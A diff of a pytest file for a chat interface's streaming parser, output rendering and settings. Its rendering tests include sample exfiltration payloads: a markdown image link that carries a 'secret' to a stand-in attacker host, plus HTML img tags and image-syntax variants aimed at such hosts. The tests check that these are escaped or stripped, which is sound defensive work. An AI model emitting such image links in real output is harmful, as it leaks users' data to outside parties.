@@ -1,37 +1,33 @@
-"""The Space's chat logic: streaming parser, history cleaning, backends, limits and errors."""
+"""The chat's logic without a model: the streaming parser (thinking / answer / tentative),
+safe rendering of model output, history cleaning and settings (issues 14 and 15)."""
 
 from __future__ import annotations
 
-import importlib.util
-import socket
-import sys
-import threading
-from pathlib import Path
+import re
+import time
 
 import pytest
-import yaml
-from toolkit.space import (
+
+from toolkit.chat.render import from_display, segments, to_display
+from toolkit.chat.settings import (
+    DEFAULT_MAX_NEW_TOKENS,
+    DEFAULT_MAX_NEW_TOKENS_LIMIT,
+    GENERIC_TITLE,
+    SpaceSettings,
+    display_name,
+)
+from toolkit.chat.stream import (
     NOTICE_PREFIX,
+    STOPPED_NOTICE,
+    STOPPED_TITLE,
+    TENTATIVE_TITLE,
     THINKING_TITLE,
     UNFINISHED_TITLE,
-    BackendUnavailable,
-    ChatSession,
-    ChatStream,
-    Delta,
-    OllamaBackend,
-    OpenAICompatibleBackend,
-    SpaceSettings,
     ThinkingStreamParser,
-    TransformersBackend,
     clean_history,
-    make_backend,
-    prompt_is_prefilled,
+    finalize_stopped,
     state_to_messages,
 )
-
-from tests.helpers.space_backends import LoopbackChatServer
-
-REPO = Path(__file__).resolve().parent.parent
 
 
 class FakeClock:
@@ -231,30 +227,261 @@ def test_clean_history_skips_files_and_unknown_roles():
 
 
 # --------------------------------------------------------------------------------------------
-# settings
+# issue 14.1 / 14.2: a template that may prefill <think>, and outputs cut short
+# --------------------------------------------------------------------------------------------
+
+
+def test_possible_prefill_shows_tentative_thinking_until_a_marker_arrives():
+    """A server whose template is unknown (vLLM without a reasoning parser, `transformers
+    serve`): before any marker the stream is pending thinking, never an answer."""
+    parser = ThinkingStreamParser(prefilled=None)
+    state = parser.feed("Let me see, 6 times 7")
+    assert state.tentative and state.thinking and state.answer == ""
+    shown = state_to_messages(state)
+    assert shown == [
+        {
+            "role": "assistant",
+            "content": "Let me see, 6 times 7",
+            "metadata": {"title": THINKING_TITLE, "status": "pending"},
+        }
+    ]
+    state = parser.feed(" is 42.\n</think>\n\nIt is **42**.")
+    assert state.reasoning == "Let me see, 6 times 7 is 42." and state.answer == "It is **42**."
+    final = parser.finish("stop")
+    assert final.reasoning_complete and final.answer == "It is **42**."
+
+
+def test_possible_prefill_without_any_marker_was_the_answer():
+    parser = ThinkingStreamParser(prefilled=None)
+    assert parser.feed("Paris.").tentative
+    final = parser.finish("stop")
+    assert final.reasoning is None and final.answer == "Paris."
+    assert state_to_messages(final) == [{"role": "assistant", "content": "Paris."}]
+
+
+@pytest.mark.parametrize("prefilled", [True, None])
+def test_thinking_cut_by_the_token_limit_is_never_the_answer_nor_sent_back(prefilled):
+    parser = ThinkingStreamParser(prefilled=prefilled)
+    for piece in ["Hmm, 6 times 7 ", "is what? Let me "]:
+        parser.feed(piece)
+    final = parser.finish("length")
+    assert final.answer == "" and final.reasoning == "Hmm, 6 times 7 is what? Let me"
+    shown = state_to_messages(final, max_new_tokens=12)
+    title = UNFINISHED_TITLE if prefilled else TENTATIVE_TITLE  # None: thinking or answer?
+    assert shown[0]["metadata"] == {"title": title}
+    assert shown[1]["content"].startswith(NOTICE_PREFIX) and "12 tokens" in shown[1]["content"]
+    # The next request gets no assistant turn for it (and so no orphaned user turn either).
+    history = [{"role": "user", "content": "6*7?"}, *shown]
+    assert clean_history(history) == []
+
+
+def test_answer_cut_by_the_token_limit_gets_a_notice():
+    parser = ThinkingStreamParser()
+    parser.feed("<think>6*7=42</think>The answer is")
+    shown = state_to_messages(parser.finish("length"), max_new_tokens=64)
+    assert shown[0]["metadata"]["status"] == "done"
+    assert shown[1] == {"role": "assistant", "content": "The answer is"}
+    assert shown[2]["content"].startswith(NOTICE_PREFIX)
+    assert "cut off at the token limit (64 tokens)" in shown[2]["content"]
+    # A finished answer gets no notice.
+    parser = ThinkingStreamParser()
+    parser.feed("<think>6*7=42</think>The answer is 42.")
+    assert len(state_to_messages(parser.finish("stop"))) == 2
+
+
+def test_a_model_that_ends_its_turn_inside_the_thinking_is_told_apart_from_the_limit():
+    parser = ThinkingStreamParser(prefilled=True)
+    parser.feed("I think")
+    shown = state_to_messages(parser.finish("stop"), max_new_tokens=64)
+    assert shown[0]["metadata"] == {"title": UNFINISHED_TITLE}
+    assert "ended its turn while still thinking" in shown[1]["content"]
+    assert "token limit" not in shown[1]["content"]
+
+
+@pytest.mark.parametrize("end", ["dropped", "stopped"])
+def test_interrupted_output_settles_without_a_spinner(end):
+    """A lost connection or Stop: what arrived stays, apart, and nothing is left pending (the
+    session adds the notice that says why)."""
+    parser = ThinkingStreamParser(prefilled=None)
+    parser.feed("Half of 48 is")
+    shown = state_to_messages(parser.finish(end))
+    title = STOPPED_TITLE if end == "stopped" else TENTATIVE_TITLE
+    assert shown == [
+        {"role": "assistant", "content": "Half of 48 is", "metadata": {"title": title}}
+    ]
+
+
+def test_finalize_stopped_clears_a_pending_panel_from_gradio_history():
+    history = [
+        {"role": "user", "content": [{"type": "text", "text": "q"}], "metadata": None},
+        {
+            "role": "assistant",
+            "content": [{"type": "text", "text": "thinking…"}],
+            "metadata": {"title": THINKING_TITLE, "status": "pending"},
+        },
+    ]
+    settled = finalize_stopped(history)
+    assert settled[1]["metadata"] == {"title": STOPPED_TITLE}
+    assert settled[2] == {"role": "assistant", "content": f"{NOTICE_PREFIX}{STOPPED_NOTICE}"}
+    assert finalize_stopped(settled) == settled  # idempotent
+    assert history[1]["metadata"]["status"] == "pending"  # the input is not modified
+
+
+# --------------------------------------------------------------------------------------------
+# issue 15.6 / 14.4: model output rendered safely (HTML escaped, no remote images), \boxed
+# --------------------------------------------------------------------------------------------
+
+
+def test_model_html_is_escaped_outside_code_and_left_to_markdown_inside():
+    text = 'Hi <b>bold</b> & <img src="http://evil/x.png"> `a<b>` done\n```\n<pre>x</pre>\n```\n'
+    shown = to_display(text)
+    assert "<b>" not in shown.split("`")[0] and "<img" not in shown
+    assert shown.startswith("Hi &lt;b>bold&lt;/b> &amp; &lt;img src=")
+    assert "`a<b>`" in shown and "\n<pre>x</pre>\n" in shown  # code shows `<` as is
+    assert from_display(shown) == text
+
+
+def test_markdown_images_are_removed_unless_their_host_is_allowed():
+    text = (
+        "See ![chart](http://attacker.test/leak?q=secret) and ![ok](https://img.example.org/a.png)"
+    )
+    shown = to_display(text)
+    assert "attacker.test" not in shown and "img.example.org" not in shown
+    assert "*(image not shown: chart)*" in shown and "*(image not shown: ok)*" in shown
+    allowed = to_display(text, image_hosts=["img.example.org"])
+    assert "![ok](https://img.example.org/a.png)" in allowed
+    assert "attacker.test" not in allowed
+    # http is never allowed, even from an allowed host
+    assert "img.example.org" not in to_display(
+        "![x](http://img.example.org/a.png)", ["img.example.org"]
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![a [nested] alt](http://attacker.test/x.png)",
+        "![ref][1]\n\n[1]: http://attacker.test/x.png",
+        "![x](<http://attacker.test/a b.png>)",
+        "![x]\n(http://attacker.test/x.png)",
+    ],
+)
+def test_every_other_image_syntax_is_defused(text):
+    shown = to_display(text)
+    assert "![" not in shown, shown
+
+
+def test_bare_boxed_gets_math_delimiters():
+    assert to_display("So \\boxed{\\frac{1}{2}}.") == "So $\\boxed{\\frac{1}{2}}$."
+    for inside in ("$x = \\boxed{3}$", "$$\\boxed{3}$$", "\\(\\boxed{3}\\)", "\\[\\boxed{3}\\]"):
+        assert to_display(inside) == inside
+    assert to_display("`\\boxed{3}`") == "`\\boxed{3}`"
+    assert to_display("\\boxed{unclosed") == "\\boxed{unclosed"
+    assert to_display("cost \\$5, so \\boxed{5}") == "cost \\$5, so $\\boxed{5}$"
+
+
+def test_clean_history_sends_back_what_the_model_wrote():
+    parser = ThinkingStreamParser()
+    parser.feed("<think>compare</think>Since a < b & b < c, a < c.")
+    shown = state_to_messages(parser.finish("stop"))
+    assert shown[1]["content"] == "Since a &lt; b &amp; b &lt; c, a &lt; c."
+    history = [{"role": "user", "content": to_display("is a < c?")}, *shown]
+    assert clean_history(history) == [
+        {"role": "user", "content": "is a < c?"},
+        {"role": "assistant", "content": "Since a < b & b < c, a < c."},
+    ]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "\\boxed{" * 200_000,
+        "`" * 1000 + " x " + "``" * 100_000,
+        "![" * 300_000,
+        "<" * 500_000 + "&" * 500_000,
+        ("`" * 7 + " a ") * 50_000,
+    ],
+)
+def test_rendering_degenerate_output_is_fast(text):
+    """A model looping until the token limit must not stall the chat (linear scans only)."""
+    started = time.perf_counter()
+    shown = to_display(text)
+    from_display(shown)
+    segments(shown)
+    assert time.perf_counter() - started < 3.0  # quadratic scans took minutes
+
+
+# --------------------------------------------------------------------------------------------
+# settings (issue 14.4 defaults, 14.5 names)
 # --------------------------------------------------------------------------------------------
 
 
 def test_settings_from_env_and_overrides(monkeypatch):
+    from toolkit.backends.openai import OpenAIModel
+
     monkeypatch.setenv("TOOLKIT_SPACE_BACKEND", "OpenAI")
     monkeypatch.setenv("TOOLKIT_SPACE_BASE_URL", "http://127.0.0.1:9/v1")
     monkeypatch.setenv("TOOLKIT_SPACE_API_KEY", "sk-secret-value")
     monkeypatch.setenv("TOOLKIT_SPACE_MAX_NEW_TOKENS", "256")
+    monkeypatch.setenv("TOOLKIT_SPACE_PREFILLED_THINKING", "True")
+    monkeypatch.setenv("TOOLKIT_SPACE_IMAGE_HOSTS", "img.example.org, Cdn.Example.org")
+    monkeypatch.setenv("TOOLKIT_SPACE_CONCURRENCY", "3")
     settings = SpaceSettings.from_env(temperature=0.2, model=None)
     assert settings.backend == "openai" and settings.max_new_tokens == 256
     assert settings.temperature == 0.2 and settings.model is None
+    assert settings.prefilled_thinking == "true" and settings.resolved_concurrency == 3
+    assert settings.image_hosts == ("img.example.org", "cdn.example.org")
     assert "sk-secret-value" not in repr(settings)
-    backend = make_backend(settings)
-    assert isinstance(backend, OpenAICompatibleBackend)
-    assert backend.base_url == "http://127.0.0.1:9/v1"
+    model = settings.build_model()
+    assert isinstance(model, OpenAIModel)
+    assert model.base_url == "http://127.0.0.1:9/v1"
 
 
 def test_settings_defaults_per_backend(monkeypatch):
-    assert isinstance(make_backend(SpaceSettings()), TransformersBackend)
+    from toolkit.backends.ollama import OllamaModel
+    from toolkit.backends.transformers import TransformersModel
+
+    assert isinstance(SpaceSettings().build_model(), TransformersModel)
     monkeypatch.setenv("OLLAMA_HOST", "http://127.0.0.1:1")
-    ollama = make_backend(SpaceSettings.from_env(backend="ollama"))
-    assert isinstance(ollama, OllamaBackend) and ollama.host == "http://127.0.0.1:1"
+    ollama = SpaceSettings.from_env(backend="ollama").build_model()
+    assert isinstance(ollama, OllamaModel) and ollama.host == "http://127.0.0.1:1"
     assert SpaceSettings(model="/runs/my-student/").display_title.startswith("my-student")
+    assert SpaceSettings(backend="openai").resolved_concurrency > 1  # issue 15.6
+    assert SpaceSettings().resolved_concurrency > 1
+
+
+def test_defaults_follow_r1_usage_advice():
+    """No system prompt (DeepSeek: "avoid adding a system prompt") and room to think."""
+    settings = SpaceSettings()
+    assert settings.system_prompt == ""
+    assert settings.max_new_tokens == DEFAULT_MAX_NEW_TOKENS == 8192
+    assert settings.max_new_tokens_limit == DEFAULT_MAX_NEW_TOKENS_LIMIT == 32768
+    assert settings.prefilled_thinking == "auto"
+    # An operator's default above the slider's top raises the top.
+    assert SpaceSettings.from_env(max_new_tokens=40000).max_new_tokens_limit == 40000
+
+
+@pytest.mark.parametrize(
+    ("model", "name"),
+    [
+        ("deepseek-ai/DeepSeek-R1-Distill-Qwen-1.5B", "deepseek-ai/DeepSeek-R1-Distill-Qwen-1.5B"),
+        ("/srv/space/runs/tiny-cpu/final", "tiny-cpu"),
+        ("/data/runs/student/checkpoint-40", "student"),
+        (
+            "/root/.cache/huggingface/hub/models--HuggingFaceTB--SmolLM2-135M-Instruct/"
+            "snapshots/" + "a" * 40,
+            "HuggingFaceTB/SmolLM2-135M-Instruct",
+        ),
+        ("qwen3:0.6b", "qwen3:0.6b"),
+        ("http://10.0.0.5:8000/v1", None),
+        (None, None),
+    ],
+)
+def test_display_names_never_show_server_paths(model, name):
+    assert display_name(model) == name
+    title = SpaceSettings(backend="openai", model=model).display_title
+    assert title == (name or GENERIC_TITLE)
+    assert not re.search(r"^/|/srv/|/root/|/data/|://", title)
 
 
 @pytest.mark.parametrize(
@@ -263,6 +490,7 @@ def test_settings_defaults_per_backend(monkeypatch):
         ({"TOOLKIT_SPACE_BACKEND": "vllm"}, "backend 'vllm' is not one of"),
         ({"TOOLKIT_SPACE_TEMPERATURE": "hot"}, "TOOLKIT_SPACE_TEMPERATURE='hot' is not a number"),
         ({"TOOLKIT_SPACE_MAX_NEW_TOKENS": "0"}, "max_new_tokens=0 must be between"),
+        ({"TOOLKIT_SPACE_PREFILLED_THINKING": "maybe"}, "prefilled_thinking='maybe' is not one"),
     ],
 )
 def test_bad_settings_are_clear_errors(monkeypatch, env, message):
@@ -270,421 +498,3 @@ def test_bad_settings_are_clear_errors(monkeypatch, env, message):
         monkeypatch.setenv(key, value)
     with pytest.raises(ValueError, match=message.replace("(", r"\(")):
         SpaceSettings.from_env()
-
-
-# --------------------------------------------------------------------------------------------
-# chat turns
-# --------------------------------------------------------------------------------------------
-
-
-class RecordingBackend:
-    """Streams a fixed script and records what it was sent."""
-
-    def __init__(
-        self, deltas: list[Delta], *, prefilled: bool = False, fail: Exception | None = None
-    ):
-        self.deltas = deltas
-        self.prefilled = prefilled
-        self.fail = fail
-        self.calls: list[dict] = []
-
-    def describe(self) -> str:
-        return "recording"
-
-    def open_stream(self, messages, *, temperature, max_new_tokens):
-        self.calls.append(
-            {"messages": messages, "temperature": temperature, "max_new_tokens": max_new_tokens}
-        )
-
-        def deltas():
-            yield from self.deltas
-            if self.fail is not None:
-                raise self.fail
-
-        return ChatStream(deltas(), prefilled=self.prefilled)
-
-
-def test_respond_streams_thinking_then_answer_and_sends_clean_history():
-    backend = RecordingBackend(
-        [Delta(reasoning="Two twos "), Delta(reasoning="make four."), Delta(content="**4**")]
-    )
-    session = ChatSession(SpaceSettings(max_new_tokens=256, max_new_tokens_limit=512), backend)
-    history = [
-        {"role": "user", "content": "hi"},
-        {"role": "assistant", "content": "secret thoughts", "metadata": {"title": "Thinking"}},
-        {"role": "assistant", "content": "hello"},
-    ]
-    outputs = list(session.respond("2+2?", history, "Be brief.", 0.3, 10_000))
-    assert outputs[0][0]["metadata"]["status"] == "pending"
-    assert outputs[-1][0]["metadata"]["status"] == "done"
-    assert outputs[-1][0]["content"] == "Two twos make four."
-    assert outputs[-1][1] == {"role": "assistant", "content": "**4**"}
-    call = backend.calls[0]
-    assert call["messages"] == [
-        {"role": "system", "content": "Be brief."},
-        {"role": "user", "content": "hi"},
-        {"role": "assistant", "content": "hello"},
-        {"role": "user", "content": "2+2?"},
-    ]
-    assert call["temperature"] == 0.3 and call["max_new_tokens"] == 512  # clamped
-
-
-def test_respond_rejects_empty_and_too_long_input_without_calling_the_backend():
-    backend = RecordingBackend([Delta(content="x")])
-    session = ChatSession(SpaceSettings(max_input_chars=10), backend)
-    assert list(session.respond("   ", [])) == [
-        [{"role": "assistant", "content": f"{NOTICE_PREFIX}Type a question first."}]
-    ]
-    (too_long,) = list(session.respond("x" * 11, []))
-    assert "11 characters; the limit is 10" in too_long[0]["content"]
-    assert backend.calls == []
-
-
-def test_respond_turns_unexpected_errors_into_a_one_line_notice():
-    backend = RecordingBackend(
-        [Delta(content="Partial ")], fail=RuntimeError("CUDA exploded\nTraceback")
-    )
-    outputs = list(ChatSession(SpaceSettings(), backend).respond("q", []))
-    last = outputs[-1]
-    assert last[0] == {"role": "assistant", "content": "Partial"}
-    assert last[1]["content"].startswith(NOTICE_PREFIX)
-    assert "RuntimeError: CUDA exploded" in last[1]["content"]
-    assert "Traceback" not in last[1]["content"]
-
-
-def _closed_port() -> int:
-    with socket.socket() as sock:
-        sock.bind(("127.0.0.1", 0))
-        return sock.getsockname()[1]
-
-
-def test_openai_backend_down_gives_a_friendly_message():
-    url = f"http://127.0.0.1:{_closed_port()}/v1"
-    settings = SpaceSettings(backend="openai", base_url=url, model="m", request_timeout=5)
-    (output,) = list(ChatSession(settings).respond("hello", []))
-    text = output[0]["content"]
-    assert text.startswith(NOTICE_PREFIX)
-    assert f"The model server at {url} is not reachable" in text
-    assert "Traceback" not in text
-
-
-def test_ollama_backend_down_gives_a_friendly_message():
-    host = f"http://127.0.0.1:{_closed_port()}"
-    settings = SpaceSettings(backend="ollama", base_url=host, model="r1:1.5b", request_timeout=5)
-    (output,) = list(ChatSession(settings).respond("hello", []))
-    assert output[0]["content"] == (
-        f"{NOTICE_PREFIX}Ollama is not reachable at {host}. Start it with `ollama serve` "
-        "(and `ollama pull r1:1.5b`), then send your message again."
-    )
-
-
-def test_openai_backend_streams_reasoning_content_from_a_loopback_server():
-    with LoopbackChatServer(["Half of 48 ", "is 24."], ["48 + 24 = ", "**72**"]) as server:
-        settings = SpaceSettings(backend="openai", base_url=server.url, temperature=0.0)
-        outputs = list(ChatSession(settings).respond("Clips?", [], max_new_tokens=64))
-        (request,) = server.requests
-    assert request["model"] == "loopback-reasoner"  # the first served model
-    assert request["stream"] is True and request["max_tokens"] == 64
-    assert any(out[0]["metadata"].get("status") == "pending" for out in outputs)
-    final = outputs[-1]
-    assert final[0]["content"] == "Half of 48 is 24."
-    assert final[0]["metadata"]["status"] == "done"
-    assert final[1]["content"] == "48 + 24 = **72**"
-
-
-def test_openai_backend_with_inline_think_tags():
-    with LoopbackChatServer(["a", "b"], ["done"], inline_think=True) as server:
-        backend = OpenAICompatibleBackend(server.url, "loopback-reasoner")
-        outputs = list(ChatSession(SpaceSettings(backend="openai"), backend).respond("q", []))
-    assert outputs[-1][0]["content"] == "ab" and outputs[-1][1]["content"] == "done"
-
-
-def test_ollama_backend_streams_thinking_from_a_loopback_server():
-    with LoopbackChatServer(["Think ", "hard."], ["Answer."], protocol="ollama") as server:
-        settings = SpaceSettings(backend="ollama", base_url=server.url, model="r1")
-        outputs = list(ChatSession(settings).respond("q", [], temperature=0.1, max_new_tokens=32))
-        (request,) = server.requests
-    assert request["think"] is True and request["options"]["num_predict"] == 32
-    assert outputs[-1][0]["content"] == "Think hard."
-    assert outputs[-1][1]["content"] == "Answer."
-
-
-def test_second_turn_sends_no_thinking_back_to_the_server():
-    gate = threading.Event()
-    gate.set()
-    with LoopbackChatServer(["SECRET-REASONING"], ["Four."], gate=gate) as server:
-        session = ChatSession(SpaceSettings(backend="openai", base_url=server.url))
-        first = list(session.respond("2+2?", []))[-1]
-        history = [{"role": "user", "content": "2+2?"}, *first]
-        list(session.respond("And 3+3?", history))
-        second = server.requests[1]["messages"]
-    assert "SECRET-REASONING" not in str(second)
-    assert second[-3:] == [
-        {"role": "user", "content": "2+2?"},
-        {"role": "assistant", "content": "Four."},
-        {"role": "user", "content": "And 3+3?"},
-    ]
-
-
-# --------------------------------------------------------------------------------------------
-# transformers backend (tiny random model: fast, deterministic with greedy decoding)
-# --------------------------------------------------------------------------------------------
-
-
-def test_prompt_is_prefilled():
-    assert prompt_is_prefilled("<|im_start|>assistant\n<think>\n")
-    assert not prompt_is_prefilled("<|im_start|>assistant\n")
-
-
-def test_transformers_backend_detects_a_prefilled_template(tiny_model_dir):
-    backend = TransformersBackend(str(tiny_model_dir))
-    backend.load()
-    messages = [{"role": "user", "content": "What is 2+2?"}]
-    stream = backend.open_stream(messages, temperature=0.0, max_new_tokens=4)
-    assert not stream.prefilled
-    assert "".join(d.content for d in stream.deltas)  # real tokens were generated
-
-    backend._tokenizer.chat_template += "{% if add_generation_prompt %}<think>\n{% endif %}"
-    outputs = list(ChatSession(SpaceSettings(), backend).respond("2+2?", [], "", 0.0, 6))
-    final = outputs[-1]
-    # A prefilled template whose model never closes the thinking: all of it is reasoning,
-    # shown as unfinished with a notice, never glued into the answer.
-    assert final[0]["metadata"]["title"] == UNFINISHED_TITLE
-    assert final[0]["content"].strip()
-    assert final[1]["content"].startswith(NOTICE_PREFIX) and "6 tokens" in final[1]["content"]
-
-
-def test_transformers_backend_folds_the_system_prompt_into_templates_without_one(
-    tiny_model_dir,
-):
-    from toolkit.models import TINY_CHAT_TEMPLATE
-
-    backend = TransformersBackend(str(tiny_model_dir))
-    backend.load()
-    backend._tokenizer.chat_template = (
-        "{% if messages[0]['role'] == 'system' %}"
-        "{{ raise_exception('System role not supported') }}{% endif %}" + TINY_CHAT_TEMPLATE
-    )
-    messages = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Hi"}]
-    prompt = backend.render_prompt(messages)
-    assert "<|im_start|>user\nBe brief.\n\nHi<|im_end|>" in prompt
-    assert "<|im_start|>system" not in prompt
-
-
-def test_transformers_backend_missing_model_is_a_clear_message(tmp_path):
-    backend = TransformersBackend(str(tmp_path / "no-such-model"))
-    with pytest.raises(BackendUnavailable, match="Could not load the model"):
-        backend.load()
-    (output,) = list(ChatSession(SpaceSettings(), backend).respond("hi", []))
-    assert output[0]["content"].startswith(f"{NOTICE_PREFIX}Could not load the model")
-
-
-# --------------------------------------------------------------------------------------------
-# the Space folder
-# --------------------------------------------------------------------------------------------
-
-
-def _front_matter(path: Path) -> dict:
-    text = path.read_text()
-    assert text.startswith("---\n"), "README.md must start with YAML front matter"
-    return yaml.safe_load(text.split("---\n", 2)[1])
-
-
-def test_space_readme_front_matter_is_valid():
-    import gradio
-
-    meta = _front_matter(REPO / "spaces" / "README.md")
-    assert meta["sdk"] == "gradio"
-    assert meta["sdk_version"] == gradio.__version__
-    assert (REPO / "spaces" / meta["app_file"]).is_file()
-    for key in ("title", "emoji", "colorFrom", "colorTo", "license", "short_description"):
-        assert meta.get(key), f"front matter lacks {key}"
-    colors = {"red", "yellow", "green", "blue", "indigo", "purple", "pink", "gray"}
-    assert meta["colorFrom"] in colors and meta["colorTo"] in colors
-    assert len(meta["short_description"]) <= 60
-    assert isinstance(meta["models"], list) and meta["models"]
-    from toolkit.space import DEFAULT_TRANSFORMERS_MODEL
-
-    assert DEFAULT_TRANSFORMERS_MODEL in meta["models"]
-
-
-def test_space_requirements_cover_the_toolkit_runtime():
-    """The Space runs the vendored toolkit package: every core dependency must be installed."""
-    import tomllib
-
-    project = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]
-
-    def name(requirement: str) -> str:
-        for stop in "[<>=!~ ;":
-            requirement = requirement.split(stop)[0]
-        return requirement.strip().lower().replace("_", "-")
-
-    lines = (REPO / "spaces" / "requirements.txt").read_text().splitlines()
-    listed = {name(line) for line in lines if line.strip() and not line.startswith("#")}
-    needed = {name(dep) for dep in project["dependencies"]}
-    needed |= {"transformers", "torch", "openai", "ollama", "accelerate", "peft"}
-    assert needed <= listed, f"missing from spaces/requirements.txt: {sorted(needed - listed)}"
-    assert "gradio" not in listed  # the Space's sdk_version installs gradio
-
-
-def test_space_app_imports_standalone_and_builds_the_demo(monkeypatch):
-    monkeypatch.setenv("TOOLKIT_SPACE_BACKEND", "openai")
-    monkeypatch.setenv("TOOLKIT_SPACE_BASE_URL", f"http://127.0.0.1:{_closed_port()}/v1")
-    spec = importlib.util.spec_from_file_location("space_app", REPO / "spaces" / "app.py")
-    module = importlib.util.module_from_spec(spec)
-    monkeypatch.setitem(sys.modules, "space_app", module)
-    spec.loader.exec_module(module)
-    import gradio
-
-    assert isinstance(module.demo, gradio.Blocks)
-    assert module.SETTINGS.backend == "openai"
-
-
-# --------------------------------------------------------------------------------------------
-# toolkit space (CLI)
-# --------------------------------------------------------------------------------------------
-
-
-def _cli_space_module():
-    import importlib
-
-    return importlib.import_module("toolkit.cli.space")
-
-
-def test_cli_space_launches_the_app_for_a_trained_model_dir(monkeypatch, tiny_model_dir):
-    from typer.testing import CliRunner
-
-    from toolkit.cli import app
-
-    launched = {}
-
-    def fake_launch(demo, *, host, port, share):
-        launched.update(demo=demo, host=host, port=port, share=share)
-
-    monkeypatch.setattr(_cli_space_module(), "launch", fake_launch)
-    result = CliRunner().invoke(
-        app, ["space", "--model", str(tiny_model_dir), "--port", "0", "--max-new-tokens", "32"]
-    )
-    assert result.exit_code == 0, result.output
-    import gradio
-
-    assert isinstance(launched["demo"], gradio.Blocks)
-    assert launched == {**launched, "host": "127.0.0.1", "port": 0, "share": False}
-    assert str(tiny_model_dir) in result.output or tiny_model_dir.name in result.output
-
-
-@pytest.mark.parametrize(
-    ("args", "message"),
-    [
-        (["--model", "./no/such/dir"], "does not exist"),
-        (["--backend", "vllm"], "--backend 'vllm' is not one of"),
-    ],
-)
-def test_cli_space_bad_arguments_are_one_line_errors(monkeypatch, args, message):
-    from typer.testing import CliRunner
-
-    from toolkit.cli import app
-
-    monkeypatch.setattr(_cli_space_module(), "launch", lambda *a, **k: pytest.fail("launched"))
-    result = CliRunner().invoke(app, ["space", *args])
-    assert result.exit_code == 1
-    assert message in " ".join(result.output.split())
-    assert "Traceback" not in result.output
-
-
-def test_cli_space_rejects_a_dir_that_is_not_a_model(monkeypatch, tmp_path):
-    from typer.testing import CliRunner
-
-    from toolkit.cli import app
-
-    monkeypatch.setattr(_cli_space_module(), "launch", lambda *a, **k: pytest.fail("launched"))
-    result = CliRunner().invoke(app, ["space", "--model", str(tmp_path)])
-    assert result.exit_code == 1
-    assert "is not a model directory" in " ".join(result.output.split())
-
-
-# --------------------------------------------------------------------------------------------
-# against the team's loopback teacher servers (tests/helpers/servers.py)
-# --------------------------------------------------------------------------------------------
-
-
-def _final(settings: SpaceSettings, **kwargs) -> list[dict]:
-    return list(ChatSession(settings).respond("What is 6 times 7?", [], **kwargs))[-1]
-
-
-def test_openai_server_with_a_reasoning_field_named_reasoning():
-    from tests.helpers.servers import OpenAIServer
-
-    with OpenAIServer(model="r1", reasoning_field="reasoning", stream_chunk_chars=8) as server:
-        final = _final(SpaceSettings(backend="openai", base_url=server.url + "/v1"))
-    assert final[0]["metadata"]["status"] == "done"
-    assert final[0]["content"].startswith("Let me work through this carefully")
-    assert final[1]["content"].startswith("The answer is \\boxed{")
-
-
-def test_openai_server_cut_off_while_thinking_shows_unfinished_reasoning():
-    from tests.helpers.servers import OpenAIServer
-
-    with OpenAIServer(model="r1", reasoning_chars=2000) as server:
-        final = _final(
-            SpaceSettings(backend="openai", base_url=server.url + "/v1"), max_new_tokens=12
-        )
-    assert final[0]["metadata"] == {"title": UNFINISHED_TITLE}
-    assert len(final[0]["content"].split()) == 12  # the 12 words the server sent, all kept
-    assert final[1]["content"].startswith(NOTICE_PREFIX) and "12 tokens" in final[1]["content"]
-
-
-def test_openai_server_that_refuses_gives_a_friendly_message():
-    from tests.helpers.servers import OpenAIServer
-
-    with OpenAIServer(model="r1", api_key="right-key") as server:
-        settings = SpaceSettings(
-            backend="openai", base_url=server.url + "/v1", model="r1", api_key="wrong-key"
-        )
-        final = _final(settings)
-    assert final == [
-        {
-            "role": "assistant",
-            "content": f"{NOTICE_PREFIX}The model server at {server.url}/v1 refused the request "
-            "(HTTP 401: Incorrect API key provided.). Check TOOLKIT_SPACE_API_KEY.",
-        }
-    ]
-
-
-def test_ollama_model_without_thinking_is_retried_without_think():
-    from tests.helpers.servers import OllamaServer
-
-    with OllamaServer(models={"smol": {"thinking": False}}) as server:
-        final = _final(SpaceSettings(backend="ollama", base_url=server.url, model="smol"))
-        first, second = server.requests
-    assert first["think"] is True and "think" not in second
-    # Without thinking the model's whole output is the answer.
-    assert final == [{"role": "assistant", "content": final[0]["content"]}]
-    assert "The answer is" in final[0]["content"]
-
-
-def test_ollama_thinking_model_streams_message_thinking():
-    from tests.helpers.servers import OllamaServer
-
-    with OllamaServer(models={"qwen3:0.6b": {"thinking": True}}) as server:
-        final = _final(SpaceSettings(backend="ollama", base_url=server.url, model="qwen3:0.6b"))
-    assert final[0]["metadata"]["status"] == "done"
-    assert "Let me work through this carefully" in final[0]["content"]
-    assert final[1]["content"].startswith("The answer is")
-
-
-def test_ollama_unknown_model_and_mid_stream_errors_are_friendly():
-    from tests.helpers.servers import FaultPlan, OllamaServer
-
-    with OllamaServer(models={"qwen3:0.6b": {"thinking": True}}) as server:
-        unknown = _final(SpaceSettings(backend="ollama", base_url=server.url, model="nope"))
-    assert unknown[0]["content"] == (
-        f"{NOTICE_PREFIX}Ollama at {server.url} refused the request for 'nope' "
-        "(HTTP 404: model 'nope' not found)."
-    )
-    plan = FaultPlan(rate_stream_error=1.0)
-    with OllamaServer(models={"qwen3:0.6b": {"thinking": True}}, faults=plan) as server:
-        broken = _final(SpaceSettings(backend="ollama", base_url=server.url, model="qwen3:0.6b"))
-    assert broken[0]["metadata"]["title"] == THINKING_TITLE  # the reasoning seen so far is kept
-    assert broken[-1]["content"].startswith(f"{NOTICE_PREFIX}The model backend failed")
-    assert "unexpected EOF" in broken[-1]["content"]
